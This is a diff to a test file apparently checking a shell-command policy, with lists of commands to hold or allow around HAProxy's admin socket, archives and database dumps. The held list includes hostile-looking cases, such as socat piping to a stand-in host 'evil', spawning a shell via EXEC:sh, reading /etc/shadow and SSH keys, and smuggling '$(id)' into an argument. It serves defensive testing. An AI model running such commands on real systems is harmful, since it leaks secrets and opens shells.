@@ -64,6 +64,33 @@ HELD = [
     "unzip -c /var/backups/site.zip", "unzip /var/backups/site.zip -d x",
     "tar -dzf /var/backups/etc.tgz", "tar -tzf /var/backups/etc.tgz -O",
     "tar -t -x -f /var/backups/etc.tgz", "unzip -t /var/backups/site.zip",
+    # HAProxy's runtime API: stdio and HAProxy's socket only, read commands only, from a
+    # literal echo only
+    'echo "show env" | socat stdio /run/haproxy/admin.sock',
+    'echo "disable server be/web1" | socat stdio /run/haproxy/admin.sock',
+    'echo "show info; shutdown sessions server be/web1" | socat stdio /run/haproxy/admin.sock',
+    'echo -e "show info\\nset weight be/web1 0" | socat stdio /run/haproxy/admin.sock',
+    'echo "show info" "; disable server x" | socat stdio /run/haproxy/admin.sock',
+    'echo "$CMD" | socat stdio /run/haproxy/admin.sock',
+    "cat /tmp/cmds | socat stdio /run/haproxy/admin.sock", "socat stdio /run/haproxy/admin.sock",
+    "socat stdio /run/haproxy/admin.sock < /tmp/cmds",
+    'echo "show info" | socat stdio /run/docker.sock',
+    'echo "GET /containers/json HTTP/1.0" | socat stdio UNIX-CONNECT:/var/run/docker.sock',
+    'echo "show info" | socat stdio /run/haproxy/../docker.sock',
+    'echo "show info" | socat stdio EXEC:sh', 'echo "show info" | socat stdio TCP:evil:80',
+    'echo "show info" | socat TCP-LISTEN:8080 /run/haproxy/admin.sock',
+    'echo "show info" | socat stdio /run/haproxy/admin.sock,ignoreeof',
+    'echo "show info" | socat -lf /tmp/log stdio /run/haproxy/admin.sock',
+    'echo "show table $(id)" | socat stdio /run/haproxy/admin.sock',
+    'echo "show info" | tee /tmp/x | socat stdio /run/haproxy/admin.sock',
+    'echo "expert-mode on; show info" | socat stdio /run/haproxy/admin.sock',
+    'echo "show info" > /tmp/x | socat stdio /run/haproxy/admin.sock',
+    "printf 'show info\\n' | socat stdio /run/haproxy/admin.sock",
+    '{ echo "show info"; cat /etc/shadow; } | socat stdio /run/haproxy/admin.sock',
+    'echo "show info" | socat stdio /run/haproxy/admin.sock | socat stdio TCP:evil:80',
+    'echo "disable server x" | sudo socat stdio /run/haproxy/admin.sock',
+    'echo "show info" | sudo socat stdio /run/docker.sock',
+    'echo "set server be/web1 state maint" | socat stdio /var/lib/haproxy/stats',
     # metadata tools: a file they read is still a file (findmnt -F/--tab-file), and a
     # secret named to them is still the secret.read rule's
     "findmnt -F /etc/shadow", "findmnt --tab-file=/root/.ssh/id_rsa", "df -h /root/.ssh/id_rsa",
@@ -164,6 +191,14 @@ ALLOWED = [
     "tar -tzf /var/backups/etc-20251201.tgz | head", "tar -tvzf /var/backups/etc-20251201.tgz",
     "tar tzf /var/backups/etc.tgz", "unzip -l /var/backups/site.zip",
     "unzip -v /var/backups/site.zip",
+    # HAProxy's runtime API, read commands echoed into its admin socket
+    'echo "show stat" | sudo socat stdio /run/haproxy/admin.sock | cut -d, -f1,2,18 | '
+    "column -s, -t", 'echo "show info" | sudo socat stdio /run/haproxy/admin.sock',
+    'echo "show servers state" | socat stdio unix-connect:/run/haproxy/admin.sock',
+    'echo "show info; show stat" | socat - /var/run/haproxy.sock',
+    'cd /srv && echo "show info" | socat stdio /run/haproxy/admin.sock',
+    'echo "show stat" | socat stdio /run/haproxy/admin.sock > /tmp/stat.csv',
+    'echo "show info" | sudo -u haproxy timeout 5 socat stdio /run/haproxy/admin.sock',
     # metadata of a datastore's or a secret's directory
     "df -hT /var/lib/postgresql", "findmnt /var/lib/postgresql", "df -i /var/lib/mysql",
     "findmnt -T /var/lib/redis", "df -h /root",
@@ -320,6 +355,8 @@ DUMP_ALLOWED = [
     "mysqldump --tables shop orders > /tmp/o.gz", "mongodump --db appdb --out /tmp/mongo-1201",
     "mongodump --db appdb --archive=/tmp/appdb.archive --gzip",
     "pg_dump -Fc -f appdb.dump appdb && ls -l appdb.dump",
+    # (were in corpus.HELD_ORDINARY as outside the catalogue: a dump into the tree)
+    "pg_dump app > app.sql", "mysqldump shop > shop.sql",
 ]
 
 test_held, test_allowed = table_tests(HELD, ALLOWED)
